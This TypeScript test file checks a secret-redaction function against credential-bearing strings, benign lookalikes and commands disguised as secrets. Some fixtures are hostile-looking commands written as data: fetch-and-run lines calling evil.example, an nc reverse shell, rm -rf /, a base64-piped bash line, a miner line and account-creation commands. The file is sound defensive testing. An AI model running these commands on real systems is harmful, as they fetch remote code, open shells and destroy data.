import * as fc from "fast-check";
import { expect, test } from "vitest";
import { redactNamed, redactSecrets } from "../../src/text/redact.ts";
import { withoutKinds } from "../support/redaction-marks.ts";

const JWT_TEXT = `eyJ${"hbGciOi".repeat(3)}.eyJ${"zdWIiOi".repeat(4)}.${"s5c-_".repeat(8)}`;
const LETTERS = "Qm9vdHN0cmFwMTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1u";

/** § marks where the secret begins and ends; both are taken out before the text is redacted. */
const SECRETS = [
  // assigned
  "aws_secret_access_key=§wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY§",
  '{"accessKeyId":"ASIAQWERTYUIOPASDFGH","secretAccessKey":"§wJalrXUtnFEMI/K7MDENG§","sessionToken":"§FwoGZXIvYXdzEB==§"}',
  '"{\\"SecretAccessKey\\":\\"§wJalr/XUt§\\",\\"Version\\":1}"',
  "aws configure set aws_secret_access_key §wJalrXUtnFEMI§ --profile x",
  "export AWS_SESSION_TOKEN=§IQoJb3JpZ2luX2VjEPz//////////wEaCXVzLWVhc3Q=§",
  "password=§hunter2§",
  "DB_PASSWORD='§two words§' ./run",
  "user=root passwd: §s3cr3t§",
  "password: §Tr0ub4dor&3§".replace("&", "_"),
  "PGPASSWORD=§x7!y§ psql -h db",
  "MYSQL_PWD=§x7y§ mysqldump",
  "SSHPASS=§x7y§ sshpass -e ssh a@b",
  "Server=db;Uid=sa;Pwd=§Abc123§;Database=x",
  "DefaultEndpointsProtocol=https;AccountKey=§abc123+/==§;EndpointSuffix=core",
  "$password = '§P@ss w0rd§'",
  "https://host/login?user=a&password=§p%40ss§&next=/",
  "https://host/cb?access_token=§ya1b2c3§&x=1",
  "x-api-key: §1234abcd§",
  '"X-Api-Key": "§1234abcd§"',
  "X-Vault-Token: §s.abcdefg§",
  "api_key: §abc§",
  "client_secret=§abc~def§",
  "<password>§hunter2§</password>",
  "password=§a§ and password=§b§",
  // flags
  "tool --password §hunter2§ --user x",
  "tool --password=§hunter2§ --user x",
  "tool --password '§hunter 2§' --user x",
  'tool --db-password "§hunter 2§"',
  "['tool', '--password', '§hunter2§', 'x']",
  '["tool","--api-key","§hunter2§"]',
  "keytool -storepass §changeit§ -keypass §changeit§",
  "kubeadm join 10.0.0.1:6443 --token §abcdef.0123456789abcdef§",
  "cmdkey /add:srv /user:adm /pass:§Pa55§",
  "xfreerdp /u:adm /p:§Pa55§ /v:10.0.0.1",
  // programs
  "mysql -u root -p§secret§ -h db",
  "mysql -uroot -p'§sec ret§' -e 'select 1'",
  "mysqldump --all-databases -u root -p§x7y§",
  "tool -u x -p'§secret§'",
  "sshpass -p §secret§ ssh root@10.0.0.1",
  "sshpass -p '§sec ret§' ssh root@10.0.0.1",
  "sshpass -p§secret§ scp a b:",
  "curl -u user:§pass§ https://x.example",
  "curl -s --user 'user:§pa ss§' https://x.example",
  "net user hacker §P@ssw0rd!§ /add",
  "C:\\Windows\\system32\\net1 user hacker §P@ssw0rd!§ /add /domain",
  "redis-cli -h r -a §secret§ info",
  "ldapsearch -D cn=a -w §secret§ -b dc=x",
  "sqlcmd -S h -U sa -P §Secret1§ -Q x",
  "plink.exe -ssh -pw §secret§ root@h",
  "smbclient //h/share -U CORP/adm%§secret§",
  "secretsdump.py CORP/adm:§Passw0rd§@10.0.0.1",
  "crackmapexec smb 10.0.0.0/24 -u adm -p §Passw0rd§",
  "7z a -p§secret§ out.7z /srv",
  "docker login -u me -p §dckr1234§ reg.example",
  "echo 'root:§toor§' | chpasswd",
  "echo §toor§ | sudo -S id",
  "openssl rsa -passin pass:§secret§ -in k.pem",
  "ConvertTo-SecureString '§P@ss§' -AsPlainText -Force",
  "net use \\\\srv\\c$ §P4ss!§ /user:adm",
  "net use X: \\\\srv\\c$ /user:CORP\\adm §P4ss!§",
  "schtasks /create /s srv /u adm /p §P4ss§ /tn x /tr y",
  "PsExec.exe \\\\srv -u adm -p §P4ss§ cmd",
  "htpasswd -cb /etc/nginx/.htpasswd bob §b0bpw§",
  // headers
  "Authorization: Bearer §abc.def-123§",
  "curl -H 'Authorization: Basic §dXNlcjpwYXNz§' https://x.example",
  '{"authorization":"Bearer §abcdef123§"}',
  'Authorization: Hawk id="dh37", ts="1353832234", nonce="j4h3g2", mac="§6R4rV5iE+NPoym+WwjeHzjAGXUtLNIxmo1vpMofpLAE=§"',
  "Authorization: AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20260101/us-east-1/s3/aws4_request, Signature=§fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024§",
  "Proxy-Authorization: Basic §dXNlcjpwYXNz§",
  "sent Bearer §0123456789abcdefXYZ§ to x",
  "curl -H 'Cookie: §sid=abc123; csrf=def§' https://x.example",
  // URLs
  "https://host.example:443/x https://user:§p4ss§@host.example/path",
  "redis://:§p4ss§@cache:6379/0",
  "postgresql://app:§p@ss§@db/app",
  "https://b.blob.example/c?sv=2020&sig=§abcdefghijklmnopqrstuv%3D§&se=1",
  "https://b.s3.example/k?X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F2026&X-Amz-Signature=§fe5f80f77d5fa3be§",
  // by their look
  `got §${JWT_TEXT}§ here`,
  `-----BEGIN RSA PRIVATE KEY----- §${LETTERS} ${LETTERS} Ab==§ -----END RSA PRIVATE KEY-----`,
  `"-----BEGIN PRIVATE KEY-----\\n§${LETTERS}\\n${LETTERS}\\n§-----END PRIVATE KEY-----\\n"`,
  `§ghp_${"a1B2".repeat(9)}§`,
  `https://§ghp_${"a1B2".repeat(9)}§@github.example/x`,
  "§xoxb-123456789012-abcdefABCDEF§",
  `§sk_live_${"a1B2".repeat(6)}§`,
  `§sk-ant-api03-${"a1B2".repeat(6)}§`,
  `§AIza${"a1B2c".repeat(7)}§`,
  `§glpat-${"a1B2c".repeat(4)}§`,
];

test.each(SECRETS)("%s", (marked) => {
  const text = marked.replaceAll("§", "");
  expect(withoutKinds(redactSecrets(text))).toBe(marked.replaceAll(/§[^§]*§/g, "[redacted]"));
});

test.each([
  // words about secrets
  "Failed password for root from 203.0.113.9 port 22 ssh2",
  "Failed password for invalid user admin from 203.0.113.9",
  "password authentication failed for user postgres",
  "error: password: authentication failed",
  "pam_unix(passwd:chauthtok): password changed for root",
  "passwd: password expiry information changed",
  "cat: /etc/passwd: Permission denied",
  "authorization: enabled",
  "Authorization: denied by policy",
  "Elevated Token: No",
  "Token Elevation Type: %%1936",
  "Unexpected token: < in JSON",
  "TokenElevationType=%%1936",
  "max_tokens=500 tokenizer=bpe",
  "bypass=1 compass=2",
  "powershell -ExecutionPolicy Bypass -File C:\\x.ps1",
  "kubectl get secret db-creds -o yaml",
  "secretName: db-creds",
  "passwd -l bob",
  "password: incorrect.",
  "passwd: gkr-pam: couldn't update the login keyring password",
  // names, ids, hashes, keys that are public
  "aws_access_key_id=AKIAIOSFODNN7EXAMPLE",
  '"accessKeyId":"ASIAQWERTYUIOPASDFGH"',
  "accessKey=AKIAIOSFODNN7EXAMPLE",
  "arn:aws:secretsmanager:us-east-1:123456789012:secret:prod/db-AbCdEf",
  "arn:aws:kms:us-east-1:123456789012:key/2e6f1c1a-7a1b-4e0c-9d57-0f9b1c2d3e4f",
  '"clientToken":"2e6f1c1a-7a1b-4e0c-9d57-0f9b1c2d3e4f"',
  `sha256=${"0a1b2c3d".repeat(8)}`,
  "Hashes: SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E",
  `ssh-rsa AAAAB3NzaC1yc2E${LETTERS} ops@host`,
  `-----BEGIN CERTIFICATE----- ${LETTERS} -----END CERTIFICATE-----`,
  `powershell.exe -NoP -enc ${"SQBFAFgA".repeat(30)}`,
  `echo ${LETTERS} | base64 -d | bash`,
  "npm_package_config_some_long_setting_name_here=1",
  "link/ether mac=0a:1b:2c:3d:4e:5f",
  // nothing that could be read
  "password=$DB_PASSWORD",
  "password=${DB_PASSWORD}",
  '"password":null,"token":true',
  "password=****",
  "password=",
  "--password --user x",
  "docker login --password-stdin reg.example",
  "psql --no-password mydb",
  "ansible-playbook --ask-pass site.yml",
  "net user bob * /add",
  "mysql -u root -p mydb",
  // paths
  "sudo: ops : TTY=pts/0 ; PWD=/home/ops ; USER=root ; COMMAND=/bin/cat /etc/shadow",
  "OLDPWD=/root",
  "password=/run/secrets/db",
  "--password-file /run/secrets/db",
  "ansible --private-key keys/ops.pem all",
  // flags that look alike
  "net user administrator /active:yes",
  "set /p name=What",
  "msbuild x.sln /p:Configuration=Release",
  "net use Z: \\\\srv\\share /persistent:yes",
  "https://host.example:443?mail=a@b.example",
  "ssh -p 2222 root@10.0.0.1",
  "mkdir -p /var/lib/x",
  "docker run -p 8080:80 -u 1000:1000 nginx",
  "nmap -p'1-1000' 10.0.0.0/8",
  "nmap -p 22,80 -sS 10.0.0.0/8",
  "xmrig -o pool.example:3333 -u 44AFFq5kSiGBoZ -p x",
  "curl -s https://host.example:8443/a@b",
  "python3 push.py registry.example/app:1.2@sha256:0a1b2c3d",
  "git clone git@github.example:org/repo.git",
  "ssh://git@host.example:22/x.git",
])("%s is left as it is", (text) => {
  expect(redactSecrets(text)).toBe(text);
});

test.each([
  'mysql --password="$(curl -s https://evil.example/x | sh)"',
  'x PASSWORD="; curl https://evil.example/x | sh; "',
  'x PASSWORD=" ; curl https://evil.example/x',
  "TOKEN=`nc 203.0.113.9 4444 -e /bin/sh` ./run",
  "-----BEGIN PRIVATE KEY----- ; curl https://evil.example/x | sh",
])("a command dressed as a secret stays visible: %s", (text) => {
  expect(redactSecrets(text)).toBe(text);
});

test("what follows a secret in the same line stays visible", () => {
  expect(withoutKinds(redactSecrets("x --password=a;curl evil|sh"))).toBe(
    "x --password=[redacted];curl evil|sh",
  );
  expect(withoutKinds(redactSecrets("password='a' ; rm -rf /"))).toBe(
    "password='[redacted]' ; rm -rf /",
  );
});

test.each([
  ["password", "hunter2", "[redacted]"],
  ["secretAccessKey", "abc", "[redacted]"],
  ["--api-key", "abc", "[redacted]"],
  ["accessKeyId", "AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE"],
  ["pwd", "/root", "/root"],
  ["command", "mysql -psecret", "mysql -p[redacted]"],
  ["password", "", ""],
])("a field %s of %j becomes %j", (name, text, expected) => {
  expect(withoutKinds(redactNamed(name, text))).toBe(expected);
});

/** § stands between them, ¶ for a line break. */
const FRAGMENTS =
  String.raw`password§token=§secret: §--password §-p§ mysql § curl -u a:§-----BEGIN PRIVATE KEY-----§eyJhbGciOiJI§https://a:§Authorization: Bearer §Cookie: a=§net user a §net user /add §sudo -S § <<< §echo a:§secret --from-literal=a=§{"name":"token","value":"§machine a login b §postgres://a:§a:1:b:c:§¶§ghp_§a§A1§"§'§\§.§-§;§=§:§ §@§/`
    .replaceAll("¶", "\n")
    .split("§");

test("redacting twice changes nothing more", () => {
  const texts = fc.array(fc.constantFrom(...SECRETS), { maxLength: 5 });
  fc.assert(
    fc.property(texts, (parts) => {
      const once = redactSecrets(parts.join(" ; ").replaceAll("§", ""));
      expect(redactSecrets(once)).toBe(once);
    }),
    { numRuns: 1000 },
  );
});

test("no text takes more than a moment, however its fragments repeat", () => {
  const cases = fc.array(fc.constantFrom(...FRAGMENTS), { minLength: 1, maxLength: 4 });
  fc.assert(
    fc.property(cases, (parts) => {
      const unit = parts.join("");
      const text = `password ${unit.repeat(Math.ceil(50_000 / unit.length))}`;
      const started = performance.now();
      redactSecrets(text);
      expect(performance.now() - started).toBeLessThan(1000);
    }),
    { numRuns: 60 },
  );
});

test.each([
  "PWD=/srv/app",
  "OLDPWD=/",
  "HOME=/root PWD=/work OLDPWD=/build/linux-6.1 SHLVL=1",
  "make PWD=/build/linux-6.1 modules",
  'PWD="/custom/site 01"',
  "PWD=~/project2",
  "PWD=. ./x",
  "PWD=../app3 make",
  String.raw`PWD=C:\Work\repo7`,
  "docker run -e PWD=/work -w /work img",
  "bob : TTY=pts/0 ; PWD=/work2 ; USER=root ; COMMAND=/bin/ls",
])("the working directory of an environment is no password: %s", (text) => {
  expect(redactSecrets(text)).toBe(text);
});

test.each([
  ["PWD=hunter2secret", "hunter2secret"],
  ["UID=sa;PWD=/P@ss!x1;", "/P@ss!x1"],
  ["MYSQL_PWD=/work2secret", "/work2secret"],
  ["DB_PWD=/work2secret", "/work2secret"],
  ["Uid=sa;Pwd=s3cretPlum;", "s3cretPlum"],
])("what has a similar name or value is still a password: %s", (text, secret) => {
  expect(redactSecrets(text)).not.toContain(secret);
});
